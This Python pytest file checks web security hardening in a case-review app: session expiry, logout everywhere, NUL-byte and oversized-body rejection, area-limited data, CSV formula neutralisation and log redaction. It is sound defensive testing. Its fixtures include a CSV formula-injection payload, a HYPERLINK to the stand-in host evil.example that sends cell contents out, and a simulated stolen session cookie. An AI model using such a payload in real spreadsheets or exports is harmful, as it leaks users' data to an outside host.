"""The web doors issue 17 found open, each shut: sessions that end, a login limit per account and
per address, NUL bytes refused before the database, counts and maps limited to the user's area,
CSV cells that cannot run as formulas, no secrets in logs, links and messages the server picks.

Through the app with TestClient on SQLite or PostgreSQL (conftest.py); the same doors against a
real `central serve` are in tests/faults/test_web_doors.py, the page buttons in a real browser in
test_account_browser.py.
"""

from __future__ import annotations

import logging
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from review_seed import PASSWORD, add_case, box, seed_city
from sqlalchemy import func, select, update
from sqlalchemy.orm import Session, sessionmaker
from web_forms import csrf_field, form_login

from streetwatch.central.api.tokens import issue_token
from streetwatch.central.app import build_app
from streetwatch.central.cli import main as central_main
from streetwatch.central.config import CentralSettings, WebSettings
from streetwatch.central.csv_export import safe_cell, to_csv
from streetwatch.central.db import session_scope
from streetwatch.central.models import AuditLog, Case, LoginFailure, Merchant, WebSession, utcnow
from streetwatch.central.web.serving import proxy_options, uvicorn_log_config
from streetwatch.redaction import RedactingFilter, redact

DEV = {"mode": "development", "secret_key": "w" * 40, "cookie_secure": False}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


@dataclass
class Desk:
    factory: sessionmaker[Session]
    app: object
    users: dict[str, int]
    tea_case: int
    border_case: int
    db_url: str

    def client(self) -> TestClient:
        return TestClient(self.app)  # type: ignore[arg-type]


@pytest.fixture()
def desk(session_factory: sessionmaker[Session], central_settings: CentralSettings, db_url: str) -> Iterator[Desk]:
    users = seed_city(session_factory)
    with session_scope(session_factory) as session:
        # South district, 40 m south of a north case at the district border; and a merchant with
        # no registered area whose zone lies in the south (north's SQL pre-filter passes it).
        session.add(Merchant(id="m-border", name="Border Dumplings", address="1 Border Road", road="Border Road",
                             zone_wkt=box(121.4750, 31.2296, 121.4753, 31.2299), area_id="south"))
        session.add(Merchant(id="m-stray", name=FORMULA, address="@SUM(1+1)", road="-2+3",
                             zone_wkt=box(121.4760, 31.2250, 121.4763, 31.2252), area_id=None))
        session.flush()
        tea = add_case(session, lat=31.23510, lon=121.47215, area_id="north", merchant_id="m-tea", method="inside")
        border = add_case(session, lat=31.23020, lon=121.47515, area_id="north", merchant_id="m-tea")
        stray = add_case(session, lat=31.22510, lon=121.47615, area_id="south", merchant_id="m-stray",
                         first_seen=utcnow() - timedelta(days=1))
        tea_id, border_id, _ = tea.id, border.id, stray.id
    settings = central_settings.model_copy(update={"web": WebSettings(**DEV)})  # type: ignore[arg-type]
    yield Desk(session_factory, build_app(settings, session_factory), users, tea_id, border_id, db_url)


def _sessions(factory: sessionmaker[Session], user_id: int) -> list[WebSession]:
    with factory() as session:
        return list(session.scalars(select(WebSession).where(WebSession.user_id == user_id)))


def _merchant_of(factory: sessionmaker[Session], case_id: int) -> str | None:
    with factory() as session:
        case = session.get(Case, case_id)
        assert case is not None
        return case.merchant_id


# --- sessions that end --------------------------------------------------------------------------


def test_a_cookie_copied_before_logout_is_refused_after_it(desk: Desk) -> None:
    with desk.client() as browser, desk.client() as thief:
        form_login(browser, "north", PASSWORD)
        csrf = csrf_field(browser.get("/").text)
        thief.cookies.update(browser.cookies)  # the copy
        assert thief.get("/").status_code == 200
        browser.post("/logout", data={"csrf_token": csrf}, follow_redirects=False)
        page = thief.get("/", follow_redirects=False)
        assert page.status_code == 303 and page.headers["location"].startswith("/login")
        json_headers = {"Accept": "application/json", "X-CSRF-Token": csrf}
        refused = thief.post(f"/cases/{desk.tea_case}/reassign", data={"merchant_id": "m-noodle"},
                             headers=json_headers)
        assert refused.status_code == 401 and refused.json() == {"detail": "Not logged in"}
    assert _merchant_of(desk.factory, desk.tea_case) == "m-tea"
    [row] = _sessions(desk.factory, desk.users["north"])
    assert row.ended_at is not None and len(row.secret_hash) == 64  # only a digest is stored


@pytest.mark.parametrize(
    ("column", "age", "logged_in"),
    [
        ("last_seen_at", timedelta(minutes=29), True),
        ("last_seen_at", timedelta(minutes=31), False),  # idle longer than web.session_idle_s (30 min)
        ("created_at", timedelta(hours=7, minutes=59), True),
        ("created_at", timedelta(hours=8, minutes=1), False),  # older than web.session_max_age_s (8 h)
    ],
)
def test_a_session_ends_when_idle_or_too_old(desk: Desk, column: str, age: timedelta, logged_in: bool) -> None:
    with desk.client() as browser:
        form_login(browser, "north", PASSWORD)
        with session_scope(desk.factory) as session:
            session.execute(update(WebSession).values({column: utcnow() - age}))
        page = browser.get("/", follow_redirects=False)
        assert (page.status_code == 200) is logged_in, page.status_code


def test_use_keeps_a_session_alive(desk: Desk) -> None:
    with desk.client() as browser:
        form_login(browser, "north", PASSWORD)
        with session_scope(desk.factory) as session:
            session.execute(update(WebSession).values(last_seen_at=utcnow() - timedelta(minutes=20)))
        assert browser.get("/").status_code == 200  # touches last_seen_at
        [row] = _sessions(desk.factory, desk.users["north"])
        assert utcnow() - row.last_seen_at < timedelta(minutes=1)


def test_log_out_everywhere_ends_every_session_of_the_user_only(desk: Desk) -> None:
    with desk.client() as phone, desk.client() as desktop, desk.client() as colleague:
        form_login(phone, "north", PASSWORD)
        form_login(desktop, "north", PASSWORD)
        form_login(colleague, "south", PASSWORD)
        page = desktop.get("/account").text
        assert "您当前在 2 处登录。" in page
        done = desktop.post("/account/logout-everywhere", data={"csrf_token": csrf_field(page)},
                            follow_redirects=False)
        assert done.status_code == 303 and done.headers["location"] == "/login"
        for client in (phone, desktop):
            assert client.get("/", follow_redirects=False).status_code == 303
        assert colleague.get("/").status_code == 200
    with desk.factory() as session:
        audit = session.scalars(select(AuditLog).where(AuditLog.action == "logout_all")).one()
        assert (audit.actor, audit.detail) == ("north", {"user": "north", "ended": 2})


def test_an_admin_logs_a_user_out_everywhere_and_a_reviewer_cannot(desk: Desk) -> None:
    with desk.client() as admin, desk.client() as north, desk.client() as south:
        form_login(north, "north", PASSWORD)
        form_login(south, "south", PASSWORD)
        csrf = csrf_field(south.get("/").text)
        denied = south.post(f"/users/{desk.users['north']}/logout-everywhere", data={"csrf_token": csrf},
                            follow_redirects=False)
        assert denied.status_code == 403
        assert north.get("/").status_code == 200
        form_login(admin, "admin", PASSWORD)
        page = admin.get("/account").text
        assert re.search(r'data-user="north">.*?data-testid="user-live">1<', page, re.S)
        done = admin.post(f"/users/{desk.users['north']}/logout-everywhere", data={"csrf_token": csrf_field(page)},
                          follow_redirects=False)
        assert done.status_code == 303 and done.headers["location"] == "/account"
        assert "north：已结束 1 个登录。" in admin.get("/account").text
        assert north.get("/", follow_redirects=False).status_code == 303
        assert admin.get("/").status_code == 200 and south.get("/").status_code == 200


def test_the_api_and_the_cli_log_a_user_out_everywhere(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
    tokens = {u: issue_token(desk.factory, username=u, name="t").secret for u in ("admin", "north", "south")}
    with desk.client() as api, desk.client() as north:
        form_login(north, "north", PASSWORD)
        other = api.delete("/api/users/north/sessions", headers={"Authorization": f"Bearer {tokens['south']}"})
        assert other.status_code == 404  # a reviewer may end only their own
        assert north.get("/").status_code == 200
        done = api.delete("/api/users/north/sessions", headers={"Authorization": f"Bearer {tokens['admin']}"})
        assert done.status_code == 200 and done.json() == {"username": "north", "ended": 1}
        assert north.get("/", follow_redirects=False).status_code == 303
        form_login(north, "north", PASSWORD)
        assert central_main(["--database-url", desk.db_url, "logout-user", "north"]) == 0
        assert "user north: 1 sessions ended" in capsys.readouterr().out
        assert north.get("/", follow_redirects=False).status_code == 303
        assert central_main(["--database-url", desk.db_url, "logout-user", "nobody"]) == 1


# --- login and NUL bytes ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [("username", "north\x00"), ("password", "pass\x00word"), ("next", "/\x00")],
)
def test_a_nul_in_the_login_form_is_400_before_anything_is_looked_up(desk: Desk, field: str, value: str) -> None:
    with desk.client() as browser:
        csrf = csrf_field(browser.get("/login").text)
        form = {"username": "north", "password": "wrong-password", "csrf_token": csrf, field: value}
        response = browser.post("/login", data=form)
        assert response.status_code == 400
        assert response.json() == {"detail": "form: a NUL byte (U+0000) is not allowed"}
    with desk.factory() as session:
        assert session.scalar(select(func.count()).select_from(LoginFailure)) == 0  # never reached the limiter


def test_nul_in_a_path_query_or_json_body_is_400(desk: Desk) -> None:
    token = issue_token(desk.factory, username="admin", name="t").secret
    auth = {"Authorization": f"Bearer {token}"}
    with desk.client() as api:
        assert api.get("/api/merchants/m%00tea", headers=auth).json()["detail"].startswith("path:")
        assert api.get("/api/merchants", params={"q": "tea\x00"}, headers=auth).status_code == 400
        body = api.post("/api/tokens", content=b'{"username": "north\\u0000"}',
                        headers={**auth, "Content-Type": "application/json"})
        assert body.status_code == 400 and body.json()["detail"].startswith("body:")


def test_a_body_larger_than_the_largest_photo_form_is_413_before_it_is_read(desk: Desk) -> None:
    limit = CentralSettings().review.max_photo_bytes + 1024 * 1024
    with desk.client() as browser:
        csrf = csrf_field(browser.get("/login").text)
        big = {"username": "north", "password": "x" * (limit + 10), "csrf_token": csrf}
        response = browser.post("/login", data=big)
        assert response.status_code == 413 and response.json() == {"detail": f"body: larger than {limit} bytes"}


def test_the_proxy_list_is_what_uvicorn_trusts_and_by_default_nobody() -> None:
    assert proxy_options(WebSettings()) == {"proxy_headers": False, "forwarded_allow_ips": []}
    web = WebSettings(trusted_proxies=["10.0.0.5", "192.168.0.0/24"])
    assert proxy_options(web) == {"proxy_headers": True, "forwarded_allow_ips": ["10.0.0.5", "192.168.0.0/24"]}
    with pytest.raises(ValueError, match="trusted_proxies"):
        WebSettings(trusted_proxies=["*"])


# --- small leaks --------------------------------------------------------------------------------


def test_merchant_counts_are_of_the_users_area_only(desk: Desk) -> None:
    tokens = {u: issue_token(desk.factory, username=u, name="t").secret for u in ("north", "admin")}
    with desk.client() as api:
        north = api.get("/api/merchants", headers={"Authorization": f"Bearer {tokens['north']}"}).json()
        assert {m["id"] for m in north["data"]} == {"m-tea", "m-noodle"} and north["count"] == 2
        paged = api.get("/api/merchants?limit=1&offset=1", headers={"Authorization": f"Bearer {tokens['north']}"})
        assert [m["id"] for m in paged.json()["data"]] == ["m-tea"] and paged.json()["count"] == 2
        city = api.get("/api/merchants", headers={"Authorization": f"Bearer {tokens['admin']}"}).json()
        assert city["count"] == 5


def test_a_case_map_shows_only_merchants_of_the_users_area(desk: Desk) -> None:
    with desk.client() as north, desk.client() as admin:
        form_login(north, "north", PASSWORD)
        form_login(admin, "admin", PASSWORD)
        assert 'data-merchant="m-border"' in admin.get(f"/cases/{desk.border_case}").text  # 40 m away
        page = north.get(f"/cases/{desk.border_case}").text
        assert 'data-merchant="m-border"' not in page and "Border Dumplings" not in page
        assert "Border Dumplings" not in north.get("/").text
        assert "m-border" in {m["id"] for m in admin.get(f"/api/cases/{desk.border_case}/merchant-candidates").json()}
        nearby = north.get(f"/api/cases/{desk.border_case}/merchant-candidates").json()
        assert "m-border" not in {m["id"] for m in nearby}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Lotus Tea House", "Lotus Tea House"),
        ("", ""),
        (-1.5, -1.5),  # numbers stay numbers
        (None, ""),  # an empty cell
    ],
)
def test_csv_cells_that_would_run_as_formulas_are_neutralised(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_every_csv_export_neutralises_formulas(desk: Desk) -> None:
    token = issue_token(desk.factory, username="admin", name="t").secret
    auth = {"Authorization": f"Bearer {token}"}
    with desk.client() as api, desk.client() as page:
        form_login(page, "admin", PASSWORD)
        exports = {
            "api stats": api.get("/api/stats/cases.csv?days=7", headers=auth).text,
            "page stats": page.get("/stats.csv?days=7").text,
        }
    for name, text in exports.items():
        assert "'=HYPERLINK(" in text and "'-2+3" in text, name
        assert not re.search(r'(^|,)"?[=+\-@]', text, re.M), name
    assert to_csv(["a"], [{"a": "@x"}]) == "a\r\n'@x\r\n"


def test_the_lifecycle_and_cli_exports_use_the_same_writer(desk: Desk, tmp_path: Path) -> None:
    out = tmp_path / "cases.csv"
    assert central_main(["--database-url", desk.db_url, "export-cases", "--format", "csv", "--output", str(out)]) == 0
    text = out.read_text()
    assert not re.search(r'(^|,)"?[=+\-@]', text, re.M)


def test_a_flash_in_the_url_does_not_reach_the_page(desk: Desk) -> None:
    with desk.client() as browser:
        form_login(browser, "north", PASSWORD)
        page = browser.get("/", params={"flash": "Your account is locked: call 555-0100", "failed": "1"}).text
        assert 'data-testid="flash"' not in page and "Your account is locked: call 555-0100" not in page


def test_tokens_in_urls_are_masked_in_every_log_line(caplog: pytest.LogCaptureFixture) -> None:
    assert redact("GET /open311/v2/requests.json?status=open&api_key=sw_SECRET HTTP/1.1") == (
        "GET /open311/v2/requests.json?status=open&api_key=*** HTTP/1.1"
    )
    assert redact("/x?access_token=abc&password=p%40ss") == "/x?access_token=***&password=***"
    assert redact("/api/cases?limit=5&offset=10") == "/api/cases?limit=5&offset=10"
    # uvicorn's access formatter unpacks the record's arguments: the filter keeps them a tuple
    record = logging.LogRecord("uvicorn.access", logging.INFO, __file__, 1, '%s - "%s %s HTTP/%s" %d',
                               ("127.0.0.1:5", "GET", "/open311/v2/services.json?api_key=sw_x1", "1.1", 200), None)
    assert RedactingFilter().filter(record)
    assert record.args == ("127.0.0.1:5", "GET", "/open311/v2/services.json?api_key=***", "1.1", 200)
    config = uvicorn_log_config()
    assert all(h["filters"] == ["redact"] for h in config["handlers"].values())
